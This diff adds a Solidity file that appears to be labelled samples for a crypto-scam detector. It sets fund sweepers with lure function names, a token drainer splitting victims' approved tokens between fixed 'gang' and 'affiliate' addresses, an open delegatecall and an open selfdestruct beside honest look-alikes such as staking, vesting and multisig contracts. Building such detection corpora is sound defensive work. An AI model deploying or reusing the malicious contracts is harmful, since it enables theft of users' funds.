@@ -1,0 +1,194 @@
+// SPDX-License-Identifier: Apache-2.0
+pragma solidity ^0.8.20;
+
+// Contracts that take native coin or tokens from those they lure, and honest ones that look a little like them.
+
+/// The best known sweeper of native coin: a promising name that does nothing, and a way out for the owner.
+contract Sweeper {
+    address private owner = msg.sender;
+    function SecurityUpdate() external payable {}
+    function Claim() external payable {}
+    function ClaimReward() external payable {}
+    function Connect() external payable {}
+    function withdraw() external { require(msg.sender == owner, "owner"); payable(owner).transfer(address(this).balance); }
+}
+
+/// The same behind the common name.
+contract QuietSweeper {
+    address private owner = msg.sender;
+    function claim() external payable {}
+    function withdrawAll(address payable to) external { require(msg.sender == owner); to.transfer(address(this).balance); }
+}
+
+/// Sends on at once, in shares.
+contract SplittingSweeper {
+    address payable private constant gang = payable(0x1111111111111111111111111111111111111111);
+    address payable private constant affiliate = payable(0x2222222222222222222222222222222222222222);
+    function claim() external payable {
+        gang.transfer(msg.value * 20 / 100);
+        affiliate.transfer(msg.value - msg.value * 20 / 100);
+    }
+}
+
+/// Claims with a fee, and gives something for it.
+contract HonestClaims {
+    address private owner = msg.sender;
+    mapping(address => bool) public claimed;
+    mapping(address => uint256) public points;
+    function claim() external payable {
+        require(msg.value == 0.001 ether && !claimed[msg.sender]);
+        claimed[msg.sender] = true;
+        points[msg.sender] += 100;
+    }
+    function withdraw() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
+}
+
+/// A staking pool: claim() costs nothing and pays out.
+contract StakingPool {
+    mapping(address => uint256) public rewards;
+    receive() external payable {}
+    function claim() external {
+        uint256 due = rewards[msg.sender];
+        rewards[msg.sender] = 0;
+        payable(msg.sender).transfer(due);
+    }
+}
+
+interface Erc20Like {
+    function transferFrom(address from, address to, uint256 value) external returns (bool);
+    function transfer(address to, uint256 value) external returns (bool);
+    function permit(address o, address s, uint256 v, uint256 d, uint8 y, bytes32 r, bytes32 t) external;
+}
+
+/// A wallet drainer: only its master moves what victims approved, in shares to fixed payees, and anything else.
+contract Drainer {
+    address private immutable master = msg.sender;
+    address private constant gang = 0x1111111111111111111111111111111111111111;
+    address private constant affiliate = 0x2222222222222222222222222222222222222222;
+    struct Take { address token; address from; uint256 amount; }
+    struct Call { address to; bytes data; uint256 value; }
+
+    function drain(Take[] calldata takes) external {
+        require(msg.sender == master);
+        for (uint256 i; i < takes.length; i++) {
+            Erc20Like(takes[i].token).transferFrom(takes[i].from, gang, takes[i].amount * 20 / 100);
+            Erc20Like(takes[i].token).transferFrom(takes[i].from, affiliate, takes[i].amount * 80 / 100);
+        }
+    }
+    function multicall(Call[] calldata calls) external payable {
+        require(msg.sender == master);
+        for (uint256 i; i < calls.length; i++) {
+            (bool ok,) = calls[i].to.call{value: calls[i].value}(calls[i].data);
+            require(ok);
+        }
+    }
+}
+
+/// Collects subscriptions that people agreed to: also a gated transferFrom to a fixed payee, and nothing more.
+contract Subscriptions {
+    address private immutable operator = msg.sender;
+    address private treasury = msg.sender;
+    mapping(address => uint256) public agreed;
+    function agree(uint256 most) external { agreed[msg.sender] = most; }
+    function charge(Erc20Like token, address from, uint256 amount) external {
+        require(msg.sender == operator && amount <= agreed[from]);
+        agreed[from] -= amount;
+        token.transferFrom(from, treasury, amount);
+    }
+}
+
+/// Takes tokens from who calls, for a later payout.
+contract Vesting {
+    struct Schedule { address token; uint256 amount; uint256 until; }
+    mapping(address => Schedule) public schedules;
+    address public owner = msg.sender;
+    function grant(address to, Erc20Like token, uint256 amount, uint256 until) external {
+        require(msg.sender == owner);
+        schedules[to] = Schedule(address(token), amount, until);
+        token.transferFrom(msg.sender, address(this), amount);
+    }
+    function release() external {
+        Schedule memory mine = schedules[msg.sender];
+        require(block.timestamp >= mine.until);
+        delete schedules[msg.sender];
+        Erc20Like(mine.token).transfer(msg.sender, mine.amount);
+    }
+}
+
+contract Router {
+    function swap(Erc20Like token, address pool, uint256 amount, address to) external {
+        token.transferFrom(msg.sender, pool, amount);
+        (bool ok,) = pool.call(abi.encodeWithSignature("swap(uint256,uint256,address,bytes)", 0, amount, to, ""));
+        require(ok);
+    }
+}
+
+contract MultisigWallet {
+    struct Proposal { address to; uint256 value; bytes data; uint256 votes; bool done; }
+    mapping(address => bool) public isOwner;
+    uint256 public required = 1;
+    Proposal[] public proposals;
+    mapping(uint256 => mapping(address => bool)) public confirmations;
+    constructor() { isOwner[msg.sender] = true; }
+    receive() external payable {}
+    function submitTransaction(address to, uint256 value, bytes calldata data) external {
+        require(isOwner[msg.sender]);
+        proposals.push(Proposal(to, value, data, 0, false));
+    }
+    function confirmTransaction(uint256 id) external {
+        require(isOwner[msg.sender] && !confirmations[id][msg.sender]);
+        confirmations[id][msg.sender] = true;
+        proposals[id].votes++;
+    }
+    function executeTransaction(uint256 id) external {
+        Proposal storage it = proposals[id];
+        require(it.votes >= required && !it.done);
+        it.done = true;
+        (bool ok,) = it.to.call{value: it.value}(it.data);
+        require(ok);
+    }
+}
+
+contract Timelock {
+    uint256 public getMinDelay = 2 days;
+    mapping(bytes32 => uint256) public readyAt;
+    mapping(address => bool) public proposer;
+    constructor() { proposer[msg.sender] = true; }
+    function schedule(bytes32 id) external { require(proposer[msg.sender]); readyAt[id] = block.timestamp + getMinDelay; }
+    function execute(address to, uint256 value, bytes calldata data) external payable {
+        bytes32 id = keccak256(abi.encode(to, value, data));
+        require(readyAt[id] != 0 && readyAt[id] <= block.timestamp);
+        delete readyAt[id];
+        (bool ok,) = to.call{value: value}(data);
+        require(ok);
+    }
+}
+
+/// Anybody chooses what code it runs.
+contract OpenDelegate {
+    function run(address code, bytes calldata data) external { (bool ok,) = code.delegatecall(data); require(ok); }
+}
+
+contract OwnedDelegate {
+    address private owner = msg.sender;
+    function run(address code, bytes calldata data) external {
+        require(msg.sender == owner);
+        (bool ok,) = code.delegatecall(data);
+        require(ok);
+    }
+}
+
+/// Anybody may end it.
+contract OpenDestructible {
+    function end() external { selfdestruct(payable(msg.sender)); }
+}
+
+/// Makes contracts at addresses known beforehand, and ends itself.
+contract Metamorphic {
+    address private owner = msg.sender;
+    function make(bytes calldata code, bytes32 salt) external {
+        bytes memory copy = code;
+        assembly { pop(create2(0, add(copy, 32), mload(copy), salt)) }
+    }
+    function end() external { require(msg.sender == owner); selfdestruct(payable(owner)); }
+}
